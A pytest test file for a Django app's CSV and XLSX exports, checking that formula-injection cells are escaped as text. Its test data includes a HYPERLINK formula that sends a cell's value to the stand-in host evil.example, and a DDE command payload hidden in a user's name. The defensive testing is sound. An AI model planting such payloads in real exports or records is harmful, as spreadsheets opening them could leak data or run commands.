"""Exported cells never run in a spreadsheet (issue 12: formula injection).

A theme, a service or a person named ``=HYPERLINK(...)`` must reach a CSV or XLSX download as text:
cells that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return get a leading apostrophe
(OWASP's advice for CSV injection), and XLSX cells are written as strings, never formulas or links.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.test import Client

from carewatch.core import tables
from carewatch.core.models import AuditEntry
from carewatch.core.roles import Role
from tests import access_helpers as ah
from tests import places

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def a_table() -> tables.Table:
    return tables.Table(
        name="themes",
        caption="Findings by theme",
        columns=["Theme", "Findings"],
        rows=[
            [ATTACK, 3],
            ["+1 cell", 2],
            ["-1 cell", 1],
            ["@SUM(A1)", 0],
            ["\tTabbed", 5],
            ["Medicines", -4],
        ],
    )


@pytest.mark.parametrize("text", [ATTACK, "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_that_a_spreadsheet_would_run_is_made_text(text):
    assert tables.safe_cell(text) == "'" + text


def test_ordinary_text_and_numbers_are_left_alone():
    assert [tables.safe_cell(v) for v in ["Medicines", "Well-led", 12, -4, 1.5, None]] == [
        "Medicines",
        "Well-led",
        12,
        -4,
        1.5,
        None,
    ]


def test_a_csv_download_holds_the_formula_as_text():
    rows = list(csv.reader(io.StringIO(tables.to_csv(a_table()).decode("utf-8"))))
    assert rows[1][0] == "'" + ATTACK
    assert [row[0] for row in rows[2:7]] == ["'+1 cell", "'-1 cell", "'@SUM(A1)", "'\tTabbed", "Medicines"]
    assert rows[6][1] == "-4"  # a number stays a number


def test_an_xlsx_download_holds_the_formula_as_text_not_a_formula_or_a_link():
    book = openpyxl.load_workbook(io.BytesIO(tables.to_xlsx(a_table())))
    sheet = book.active
    cell = sheet.cell(row=4, column=1)
    assert cell.data_type == "s" and cell.value == "'" + ATTACK
    assert sheet.cell(row=4, column=1).hyperlink is None
    assert sheet.cell(row=9, column=2).value == -4


@pytest.mark.django_db
def test_the_audit_export_names_a_person_called_like_a_formula_as_text():
    council = places.council()
    manager = ah.person(council, Role.QA_MANAGER, username="formula-person")
    manager.first_name, manager.last_name = "=cmd|' /C calc'!A0", "Smith"
    manager.save()
    AuditEntry.objects.create(
        at=places.at(2026, 3, 2),
        actor=manager,
        actor_label=manager.get_full_name(),
        organisation=council,
        action="test.done",
        object_type="test",
        object_id="1",
    )
    client = Client()
    ah.sign_in(client, manager)
    response = client.get("/audit/export.csv", {"from": date(2026, 3, 1).isoformat(), "to": "2026-03-31"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=cmd|' /C calc'!A0 Smith" in cells
    assert not any(cell.startswith("=") for cell in cells)
